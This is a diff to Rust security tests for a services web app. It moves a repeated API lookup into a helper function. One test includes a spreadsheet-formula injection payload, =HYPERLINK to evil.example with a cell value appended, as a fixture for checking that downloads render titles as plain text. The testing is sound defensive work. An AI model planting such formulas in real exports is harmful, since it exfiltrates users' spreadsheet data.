@@ -41,6 +41,17 @@ fn title_of(html: &str) -> &str {
     &html[start..end]
 }
 
+/// A service as the services API lists it.
+async fn service_json(app: &TestApp, slug: &str) -> Value {
+    app.get("/api/v1/services").await.json()["services"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["slug"] == slug)
+        .cloned()
+        .unwrap()
+}
+
 async fn admin_put(app: &TestApp, key: &str, uri: &str, body: &Value) {
     let answer = app.send(Method::PUT, uri, key, body).await;
     assert_eq!(answer.status, StatusCode::OK, "{uri}: {}", answer.text());
@@ -52,13 +63,7 @@ async fn payloads_set_by_people_and_keys_are_inert_in_every_page(app: TestApp) {
     let both = format!("{TITLE_BREAK} {ATTRIBUTE_BREAK}");
 
     // A service's title and description.
-    let service = app.get("/api/v1/services").await.json()["services"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|s| s["slug"] == "file-a-tax-return")
-        .cloned()
-        .unwrap();
+    let service = service_json(&app, "file-a-tax-return").await;
     let organisation = service["agency"]["slug"]
         .as_str()
         .or(service["department"]["slug"].as_str())
@@ -281,13 +286,7 @@ async fn a_title_a_spreadsheet_would_run_is_text_in_every_download(app: TestApp)
     let app = with_demo_and_people(app).await;
     let admin = app.admin_key().await;
     let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"File a tax return\")";
-    let service = app.get("/api/v1/services").await.json()["services"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|s| s["slug"] == "file-a-tax-return")
-        .cloned()
-        .unwrap();
+    let service = service_json(&app, "file-a-tax-return").await;
     let organisation = service["department"]["slug"].as_str().unwrap().to_string();
     admin_put(
         &app,
